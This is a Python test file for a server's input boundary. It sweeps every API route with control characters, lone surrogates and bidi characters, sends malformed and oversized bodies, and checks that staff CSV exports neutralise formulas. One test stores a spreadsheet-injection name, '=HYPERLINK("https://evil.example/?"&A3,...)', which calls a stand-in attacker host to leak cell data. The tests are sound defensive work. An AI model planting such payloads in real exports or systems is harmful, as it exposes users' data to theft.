"""Hostile input at the server's boundary (issue 11, items 12–17), on SQLite and PostgreSQL.

The sweep enumerates the routes from the app's own OpenAPI document, so a route added later is
covered without anyone remembering to add it: every string query, path, header and form
parameter and every string (and free-form object) of every JSON body gets NUL, other control
characters, lone surrogates and — where the field is a name — invisible and bidi characters.
Each must be refused by ``server.boundary`` with a Russian problem+json 4xx, never a 500.

The size limits are measured against a real uvicorn on 127.0.0.1: a 50 MB body is refused with
413 without being read.
"""

from __future__ import annotations

import json
import re
import select
import socket
import time
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import httpx
import pytest
import sqlalchemy as sa

from desktop.models.textrules import NAME_KEYS
from server.db import make_engine
from server.models import AppliedOp
from server.testing import SCHEMA_HEADER, run_server
from tests.server.conftest import World

#: refused in every string that enters the server, whatever the field
BAD_TEXT = [
    ("NUL", "a\x00b"),
    ("BEL", "a\x07b"),
    ("ESC", "a\x1b[31mb"),
    ("DEL", "a\x7fb"),
    ("C1 NEL", "a\x85b"),
    ("C1 CSI", "a\x9bb"),
    ("lone high surrogate", "a\ud800b"),
    ("lone low surrogate", "\udfff"),
]
#: refused in one-line values (query, path, form, keys, names), allowed in free text in JSON
LINE_BREAKS = [("LF", "a\nb"), ("CR", "a\rb"), ("TAB", "a\tb")]
#: refused in names (and in the path): each makes one name look like another
INVISIBLE = [
    ("RLO U+202E", "Ива\u202eвона"),
    ("LRE U+202A", "\u202aИванов"),
    ("PDF U+202C", "Иванов\u202c"),
    ("LRI U+2066", "Ива\u2066нов"),
    ("PDI U+2069", "Ива\u2069нов"),
    ("ZWSP U+200B", "Ива\u200bнов"),
    ("ZWJ U+200D", "Ива\u200dнов"),
    ("RLM U+200F", "Иванов\u200f"),
    ("BOM U+FEFF", "\ufeffИванов"),
    ("WJ U+2060", "Ива\u2060нов"),
    ("soft hyphen U+00AD", "Ива\u00adнов"),
    ("ALM U+061C", "Ива\u061cнов"),
    ("tag U+E0041", "Иванов\U000e0041"),
    ("Hangul filler U+3164", "Иванов\u3164"),
    ("variation selector U+FE0F", "Иванов\ufe0f"),
    ("NBSP U+00A0", "Иван\u00a0Иванов"),
    ("line separator U+2028", "Иванов\u2028"),
]

PLACEHOLDER = {"inn": "7707083893", "sha256": "a" * 64, "entity": "person", "account_id": "1"}
CYRILLIC = re.compile("[А-Яа-яЁё]")


def _pct(value: str) -> str:
    """Percent-encode as a client would, lone surrogates included (as the bytes they would be)."""
    return quote(value.encode("utf-8", "surrogatepass"), safe="")


def assert_refused(r: httpx.Response, what: str) -> None:
    """Refused by the boundary itself: 400/422 problem+json in Russian that names the field."""
    assert r.status_code in (400, 422), f"{what}: {r.status_code} {r.text[:300]}"
    assert r.headers["content-type"].startswith("application/problem+json"), what
    assert r.headers.get("x-content-type-options") == "nosniff", what
    if r.request.method == "HEAD":
        return  # same answer as GET, without the body
    body = r.json()
    assert body["detail"].startswith("Запрос не прошёл проверку"), f"{what}: {body}"
    assert CYRILLIC.search(body["detail"]) and body.get("errors"), f"{what}: {body}"


def assert_no_server_error(r: httpx.Response, what: str) -> None:
    assert r.status_code < 500, f"{what}: {r.status_code} {r.text[:300]}"
    assert r.headers.get("x-content-type-options") == "nosniff", what
    if r.status_code >= 400 and r.request.method != "HEAD" and r.headers.get("content-type", "").startswith(
            "application/"):
        body = r.json()
        assert CYRILLIC.search(str(body.get("detail") or body.get("error_description") or "")), f"{what}: {body}"


# -- the OpenAPI walk --------------------------------------------------------------------------
def _resolve(spec: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = spec["components"]["schemas"][schema["$ref"].rsplit("/", 1)[-1]]
    return schema


Slot = tuple[tuple[Any, ...], str]


def _slots(spec: dict[str, Any], schema: dict[str, Any], path: tuple[Any, ...] = ()) -> Iterator[Slot]:
    """(location, "str" | "dict") of every string and every free-form object in a body schema."""
    schema = _resolve(spec, schema)
    for alt in schema.get("anyOf", []) + schema.get("oneOf", []):
        if alt.get("type") != "null":
            yield from _slots(spec, alt, path)
    kind = schema.get("type")
    if kind == "string":
        yield path, "str"
    elif kind == "object":
        for name, sub in schema.get("properties", {}).items():
            yield from _slots(spec, sub, (*path, name))
        if schema.get("additionalProperties") not in (None, False):
            yield path, "dict"
    elif kind == "array":
        yield from _slots(spec, schema.get("items", {}), (*path, 0))


def _nest(path: tuple[Any, ...], value: Any) -> Any:
    for part in reversed(path):
        value = [value] if isinstance(part, int) else {part: value}
    return value


def _operations(spec: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any]]]:
    for path, ops in spec["paths"].items():
        for method, op in ops.items():
            yield method.upper(), path, op


def _url(path: str, params: dict[str, str] | None = None, query: str = "") -> str:
    def sub(m: re.Match[str]) -> str:
        name = m.group(1)
        if params and name in params:
            return params[name]
        return PLACEHOLDER.get(name, str(uuid.uuid5(uuid.NAMESPACE_URL, name)))

    return re.sub(r"\{(\w+)\}", sub, path) + (f"?{query}" if query else "")


def _cases(spec: dict[str, Any]) -> Iterator[tuple[str, str, dict[str, Any], bool]]:
    """(method, url, request kwargs, must be refused) for every hostile value in every slot."""
    for method, path, op in _operations(spec):
        for param in op.get("parameters", []):
            name, where = param["name"], param["in"]
            one_line = BAD_TEXT + LINE_BREAKS
            if where == "path":
                for label, v in one_line + INVISIBLE:
                    yield method, _url(path, {name: _pct(v)}), {"_what": f"{method} {path} path {name} {label}"}, True
            elif where == "query":
                for label, v in one_line + INVISIBLE:
                    refused = (label, v) in one_line or name in NAME_KEYS
                    yield (method, _url(path, query=f"{name}={_pct(v)}"),
                           {"_what": f"{method} {path} query {name} {label}"}, refused)
                yield (method, _url(path, query=f"{_pct('a' + chr(0) + name)}=1"),
                       {"_what": f"{method} {path} query name with NUL"}, True)
            elif where == "header" and name.lower() != "authorization":
                for label, v in one_line:
                    raw = v.encode("utf-8", "surrogatepass")
                    what = f"{method} {path} header {name} {label}"
                    yield method, _url(path), {"headers": {name: raw}, "_what": what}, True
        content = op.get("requestBody", {}).get("content", {})
        for media, body in content.items():
            schema = body.get("schema", {})
            for loc, kind in _slots(spec, schema):
                what = f"{method} {path} body {'.'.join(map(str, loc)) or '<root>'}"
                if media == "application/x-www-form-urlencoded":
                    field = str(loc[-1])
                    for label, v in BAD_TEXT + LINE_BREAKS + INVISIBLE:
                        refused = (label, v) not in INVISIBLE or field in NAME_KEYS
                        yield method, _url(path), {
                            "content": f"{field}={_pct(v)}".encode("ascii"),
                            "headers": {"Content-Type": media}, "_what": f"{what} {label}"}, refused
                    continue
                values: list[tuple[str, Any, bool]] = []
                if kind == "str":
                    name = str(loc[-1]) if loc else ""
                    values += [(label, v, True) for label, v in BAD_TEXT]
                    values += [(label, v, name in NAME_KEYS) for label, v in INVISIBLE + LINE_BREAKS]
                else:  # a free-form object: hostile keys, hostile values, names under their keys
                    values += [(f"key {label}", {f"x{v}": "1"}, True) for label, v in BAD_TEXT + LINE_BREAKS]
                    values += [(f"key {label}", {f"x{v}": "1"}, True) for label, v in INVISIBLE[:6]]
                    values += [("key of 65 characters", {"k" * 65: "1"}, True)]
                    values += [(f"value {label}", {"comment": v}, True) for label, v in BAD_TEXT]
                    values += [(f"last_name {label}", {"last_name": v}, True) for label, v in INVISIBLE]
                for label, v, refused in values:
                    doc = _nest(loc, v)
                    yield method, _url(path), {
                        "content": json.dumps(doc).encode("ascii"),  # ensure_ascii: \u0000, \ud800 escapes
                        "headers": {"Content-Type": "application/json"}, "_what": f"{what} {label}"}, refused


def test_every_route_refuses_hostile_strings(world: World) -> None:
    spec = world.client.get("/openapi.json").json()
    assert len(list(_operations(spec))) > 40
    refused = passed = 0
    routes: set[str] = set()
    for method, url, kw, must_refuse in _cases(spec):
        what = kw.pop("_what")
        # the login endpoints take no token (and /oauth/revoke would end the admin's session)
        token = {} if url.startswith("/oauth/") else world.h("admin")
        headers = {**token, **SCHEMA_HEADER, **kw.pop("headers", {})}
        r = world.client.request(method, url, headers=headers, **kw)
        routes.add(what.split(" ")[1])
        if must_refuse:
            assert_refused(r, what)
            refused += 1
        else:
            assert_no_server_error(r, what)
            passed += 1
    assert refused > 500 and len(routes) > 20
    print(f"hostile sweep: {refused} refused, {passed} passed through without a server error")


def test_refusals_come_before_login(world: World) -> None:
    """No token at all: the boundary answers (422/400), not the 401 of the authentication."""
    spec = world.client.get("/openapi.json").json()
    seen = 0
    for method, url, kw, must_refuse in _cases(spec):
        what = kw.pop("_what")
        if not must_refuse or "NUL" not in what:
            continue
        r = world.client.request(method, url, **kw)
        assert_refused(r, "no token: " + what)
        seen += 1
    assert seen > 50


# -- the nine NUL endpoints of the report, and names, one by one -------------------------------
def test_login_form_refuses_nul_before_any_database_work(world: World) -> None:
    form = {"username": "doc\x00tor", "password": "x", "client_id": "frmr-desktop",
            "redirect_uri": "http://127.0.0.1:5000/cb", "code_challenge": "a" * 43, "code_challenge_method": "S256"}
    r = world.client.post("/oauth/authorize", data=form)
    assert_refused(r, "login form")
    assert r.status_code == 400 and r.json()["error"] == "invalid_request"  # RFC 6749 §5.2
    assert r.json()["errors"] == {"username": "недопустим символ NUL (U+0000)"}
    r = world.client.post("/oauth/token", data={"grant_type": "refresh_token", "refresh_token": "\x00"})
    assert_refused(r, "token form")


def test_texts_never_store_control_characters(world: World) -> None:
    """Comments, answers, programme titles, display names: refused on both backends alike."""
    w = world
    for login, path, body in [
        ("admin", "/programmes", {"title": "Курс\x1b[2J", "format": "distance", "hours": 36,
                                  "begin_date": "2030-01-01", "end_date": "2030-01-10", "seats": 2}),
        ("admin", "/admin/accounts", {"login": "newbie", "password": "Pa55word!x", "role": "doctor",
                                      "display_name": "Иван\x07"}),
        ("hr1", f"/requests/{uuid.uuid4()}/comments", {"text": "привет\x00"}),
        ("doctor", f"/requests/{uuid.uuid4()}/answer", {"text": "ответ\x00"}),
        ("admin", f"/admin/nmo/{uuid.uuid4()}/decision", {"decision": "rejected", "comment": "нет\x00"}),
    ]:
        assert_refused(w.post(login, path, json=body), path)


@pytest.mark.parametrize(("label", "value"), INVISIBLE)
def test_names_refuse_invisible_and_bidi_characters(world: World, label: str, value: str) -> None:
    w = world
    pid = w.person_id("doctor")
    r = w.patch("admin", f"/persons/{pid}/person/{pid}", json={"fields": {"last_name": value}})
    assert_refused(r, label)
    assert "fields.last_name" in r.json()["errors"]
    r = w.post("admin", "/admin/accounts", json={"login": "user" + value, "password": "x", "role": "doctor"})
    assert_refused(r, label)
    r = w.post("admin", "/orgs", json={"inn": "7707083893", "name": "ГБУЗ" + value})
    assert_refused(r, label)


def test_free_text_keeps_line_breaks_and_tabs_but_names_do_not(world: World) -> None:
    w = world
    pid = w.person_id("doctor")
    ok = w.patch("admin", f"/persons/{pid}/person/{pid}",
                 json={"fields": {"address_actual": "г. Москва,\n\tул. Ленина, 1"}})
    assert ok.status_code == 200, ok.text
    r = w.patch("admin", f"/persons/{pid}/person/{pid}", json={"fields": {"first_name": "Ив\nан"}})
    assert_refused(r, "line break in a name")


def test_lone_surrogate_in_field_name_and_blob_hash(world: World) -> None:
    """Item 13: both gave 500 on SQLite and PostgreSQL."""
    w = world
    pid = w.person_id("doctor")
    op = {"op_id": str(uuid.uuid4()), "counter": 1, "entity": "person", "entity_id": pid, "person_id": pid,
          "op": "update", "fields": {"last_\ud800name": "Иванов"}, "base_version": 1}
    body = json.dumps({"client_id": str(uuid.uuid4()), "ops": [op]})
    assert "\\ud800" in body
    assert_refused(w.post("doctor", "/sync/push", content=body, headers={"Content-Type": "application/json"}), "key")
    op = {**op, "fields": {}, "blobs": ["\ud800" * 64]}
    body = json.dumps({"client_id": str(uuid.uuid4()), "ops": [op]})
    assert_refused(w.post("doctor", "/sync/push", content=body, headers={"Content-Type": "application/json"}), "blob")
    assert w.get("doctor", "/blobs/" + _pct("\ud800" * 64)).status_code == 400


# -- malformed bodies beyond the report --------------------------------------------------------
MALFORMED: list[tuple[str, bytes, str, int]] = [
    ("invalid UTF-8", b'{"client_id": "\xff\xfe"}', "application/json", 400),
    ("UTF-8 encoded surrogate", b'{"client_id": "\xed\xa0\x80"}', "application/json", 400),
    ("UTF-16 body", '{"client_id": "x"}'.encode("utf-16"), "application/json", 400),
    ("UTF-8 BOM", b'\xef\xbb\xbf{"client_id": "x"}', "application/json", 400),
    ("broken JSON", b'{"client_id": ', "application/json", 400),
    ("duplicate key", b'{"client_id": "a", "client_id": "b"}', "application/json", 422),
    ("NaN", b'{"client_id": NaN}', "application/json", 422),
    ("Infinity", b'{"client_id": -Infinity}', "application/json", 422),
    ("float overflow", b'{"client_id": 1e999}', "application/json", 422),
    ("integer past 64 bits", b'{"ops": [{"counter": 99999999999999999999}]}', "application/json", 422),
    ("5000-digit integer", b'{"client_id": ' + b"9" * 5000 + b"}", "application/json", 422),
    ("nesting 20 deep", b"[" * 20 + b"]" * 20, "application/json", 422),
    ("nesting 100000 deep", b"[" * 100_000, "application/json", 422),
    ("array of 1001 items", json.dumps({"ops": [0] * 1001}).encode(), "application/json", 422),
    ("object of 201 keys", json.dumps({f"k{i}": 1 for i in range(201)}).encode(), "application/json", 422),
    ("string of 20001 characters", json.dumps({"client_id": "я" * 20_001}).encode(), "application/json", 422),
    ("no content type, NUL", b'{"client_id": "\\u0000"}', "", 422),
    ("+json media type, NUL", b'{"client_id": "\\u0000"}', "application/merge-patch+json", 422),
    ("multipart", b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--\r\n",
     "multipart/form-data; boundary=x", 415),
    ("text/plain", b"hello", "text/plain", 415),
]


@pytest.mark.parametrize(("label", "body", "ctype", "status"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_bodies_are_refused_in_russian(world: World, label: str, body: bytes, ctype: str,
                                                 status: int) -> None:
    headers = {**world.h("doctor"), **({"Content-Type": ctype} if ctype else {})}
    r = world.client.post("/sync/push", content=body, headers=headers)
    assert r.status_code == status, (label, r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith("application/problem+json")
    assert CYRILLIC.search(r.json()["detail"]), r.text


def test_malformed_requests_beyond_the_body(world: World) -> None:
    w = world
    c = w.client
    h = w.h("admin")
    # raw bytes outside ASCII in the query, invalid UTF-8 after %-decoding, too many parameters
    assert c.get("/admin/audit?login=%FF", headers=h).status_code == 400
    assert c.get("/admin/audit?" + "&".join(f"p{i}=1" for i in range(65)), headers=h).status_code == 422
    assert c.get("/admin/audit?login=" + "a" * 9000, headers=h).status_code == 400
    assert c.get("/admin/audit?" + "k" * 65 + "=1", headers=h).status_code == 422
    # a path of 3000 characters, a NUL in a path segment that has no pattern (it reached PostgreSQL)
    assert c.get("/sessions/" + "a" * 3000, headers=h).status_code == 400
    assert c.delete("/sessions/%00", headers=h).status_code == 400
    # headers kept as data: C1 control in User-Agent (stored with the session), an overlong one
    for ua in (b"Mozilla\x85", b"a" * 600, "Мозилла".encode()):
        r = c.get("/me", headers={**h, "User-Agent": ua})  # type: ignore[dict-item]
        assert r.status_code == 400 and CYRILLIC.search(r.json()["detail"]), r.text
    assert c.get("/me", headers={**h, "X-Client-Schema": "1\x00"}).status_code == 400
    assert c.post("/sync/push", headers={**h, "Content-Length": "12abc"}, content=b"{}").status_code in (400, 413)


# -- push limits (item 12) ---------------------------------------------------------------------
def _push(w: World, login: str, ops: list[dict[str, Any]]) -> httpx.Response:
    return w.post(login, "/sync/push", json={"client_id": str(uuid.uuid4()), "ops": ops})


def test_push_bounds_field_names_counts_and_what_is_stored(world: World) -> None:
    w = world
    pid = w.person_id("doctor")

    def op(fields: dict[str, Any]) -> dict[str, Any]:
        return {"op_id": str(uuid.uuid4()), "counter": 1, "entity": "person", "entity_id": pid, "person_id": pid,
                "op": "update", "fields": fields, "base_version": 1}

    # 20 MB field name: refused from its size before it is parsed, let alone stored
    huge = (b'{"client_id": "' + str(uuid.uuid4()).encode() + b'", "ops": [{"fields": {"'
            + b"x" * (20 * 1024 * 1024) + b'": 1}}]}')
    r = w.post("doctor", "/sync/push", content=huge, headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "МБ" in r.json()["detail"]
    # a 65-character name, 65 fields: refused at the boundary
    r = _push(w, "doctor", [op({"x" * 65: "1"})])
    assert_refused(r, "long key")
    r = _push(w, "doctor", [op({f"f{i}": "1" for i in range(65)})])
    assert_refused(r, "many fields")
    assert "ops.0.fields" in r.json()["errors"]
    # 64 unknown names of 64 characters: a per-operation rejection whose stored result stays small
    fields = {f"{i:02d}" + "y" * 62: "1" for i in range(64)}
    r = _push(w, "doctor", [op(fields)])
    assert r.status_code == 200, r.text
    res = r.json()["results"][0]
    assert res["status"] == "rejected"
    assert all(len(k) <= 65 for k in res["errors"]) and len(json.dumps(res, ensure_ascii=False)) < 64 * 200
    engine = make_engine(w.url)
    try:
        with engine.connect() as conn:
            stored = conn.execute(sa.select(AppliedOp.result).where(  # type: ignore[call-overload]
                AppliedOp.op_id == res["op_id"])).scalar_one()
    finally:
        engine.dispose()
    assert len(json.dumps(stored, ensure_ascii=False)) < 64 * 200


# -- answers (item 17) -------------------------------------------------------------------------
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def test_every_answer_has_nosniff_and_blobs_are_downloads(world: World) -> None:
    import hashlib

    w = world
    sha = hashlib.sha256(PDF).hexdigest()
    put = w.client.put(f"/blobs/{sha}", content=PDF, headers=w.h("doctor"))
    assert put.status_code == 201 and put.headers["x-content-type-options"] == "nosniff"
    get = w.get("doctor", f"/blobs/{sha}")
    assert get.status_code == 200 and get.content == PDF
    assert get.headers["x-content-type-options"] == "nosniff"
    assert get.headers["cache-control"] == "no-store"
    assert get.headers["content-disposition"] == f'attachment; filename="{sha}.pdf"'
    assert "sandbox" in get.headers["content-security-policy"]
    head = w.client.head(f"/blobs/{sha}", headers=w.h("doctor"))
    assert head.headers["x-content-type-options"] == "nosniff" and head.headers["cache-control"] == "no-store"
    for r in (w.client.get("/healthz"), w.client.get("/openapi.json"), w.client.get("/nowhere"),
              w.client.get("/me"), w.get("doctor", "/me"), w.get("doctor", "/blobs/" + "b" * 64),
              w.client.get("/oauth/authorize"), w.post("doctor", "/sync/push", content=b"{")):
        assert r.headers.get("x-content-type-options") == "nosniff", (r.request.url, r.status_code)


# -- the staff CSV (item 16) -------------------------------------------------------------------
def test_staff_csv_neutralises_formulas(world: World) -> None:
    import csv
    import io

    w = world
    inn = w.tokens["hr1"]["user"]["organizations"][0]["inn"]
    staff = w.get("hr1", f"/orgs/{inn}/staff", params={"page_size": 500}).json()["items"]
    victim = next(i for i in staff if i["person_id"] != w.person_id("doctor"))
    pid = victim["person_id"]
    hostile = {"last_name": '=HYPERLINK("https://evil.example/?"&A3,"Иванов")', "first_name": "+Иван",
               "patronymic": "@Иванович"}
    r = w.patch("admin", f"/persons/{pid}/person/{pid}", json={"fields": hostile})
    assert r.status_code == 200, r.text  # "=" is an ordinary character in a name: stored as typed
    r = w.get("manager", f"/orgs/{inn}/staff.csv")
    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    row = next(x for x in rows if x[1].lstrip("'").startswith("=HYPERLINK"))
    assert row[1:4] == ["'" + hostile["last_name"], "'+Иван", "'@Иванович"]
    for x in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in x), x


# -- sizes against a real server (item 12) -----------------------------------------------------
def _raw_request(base: str, head: bytes) -> socket.socket:
    u = urlsplit(base)
    s = socket.create_connection((u.hostname or "127.0.0.1", u.port or 80), timeout=10)
    s.sendall(head)
    return s


def _response_status(s: socket.socket, timeout: float) -> int:
    s.settimeout(timeout)
    data = b""
    while b"\r\n" not in data:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return int(data.split(b" ", 2)[1])


def test_fifty_megabytes_without_a_token_are_refused_unread(db_url: str) -> None:
    with run_server(db_url) as base:
        host = urlsplit(base).netloc.encode()
        # declared: answered from the Content-Length alone — we send none of the 50 MB and still
        # get the 413 at once (had the server waited for the body, this would time out)
        for path, method in ((b"/sync/push", b"POST"), (b"/oauth/token", b"POST"), (b"/blobs/" + b"a" * 64, b"PUT")):
            s = _raw_request(base, method + b" " + path + b" HTTP/1.1\r\nHost: " + host +
                             b"\r\nContent-Type: application/json\r\nContent-Length: 52428800\r\n\r\n")
            started = time.monotonic()
            assert _response_status(s, timeout=5) == 413, path
            assert time.monotonic() - started < 5
            s.close()
        # chunked, no length declared: refused as soon as the bytes read pass the limit (4 MB);
        # count what we managed to send before the answer arrived
        s = _raw_request(base, b"POST /sync/push HTTP/1.1\r\nHost: " + host +
                         b"\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
        chunk = b"x" * 65536
        frame = f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n"
        sent = 0
        status = None
        s.setblocking(False)
        deadline = time.monotonic() + 30
        while sent < 50 * 1024 * 1024 and time.monotonic() < deadline:
            readable, writable, _ = select.select([s], [s], [], 1)
            if readable:
                break
            if writable:
                try:
                    sent += s.send(frame)
                except (BlockingIOError, InterruptedError):
                    continue
                except (BrokenPipeError, ConnectionResetError):
                    break
        s.setblocking(True)
        status = _response_status(s, timeout=10)
        s.close()
        assert status == 413
        assert sent < 20 * 1024 * 1024, f"sent {sent} bytes before the refusal"
        # the server is fine afterwards, and a file of allowed size still streams in
        import hashlib

        assert httpx.get(base + "/healthz").status_code == 200
        from server.testing import seed, token_for

        seed(db_url)
        tok = token_for(db_url, "doctor")["access_token"]
        data = b"%PDF-1.4\n" + b"0" * (3 * 1024 * 1024)
        sha = hashlib.sha256(data).hexdigest()

        def chunks() -> Iterator[bytes]:
            for i in range(0, len(data), 256 * 1024):
                yield data[i:i + 256 * 1024]

        r = httpx.put(f"{base}/blobs/{sha}", content=chunks(),
                      headers={"Authorization": f"Bearer {tok}", **SCHEMA_HEADER})
        assert r.status_code == 201, r.text
        assert r.headers["x-content-type-options"] == "nosniff"
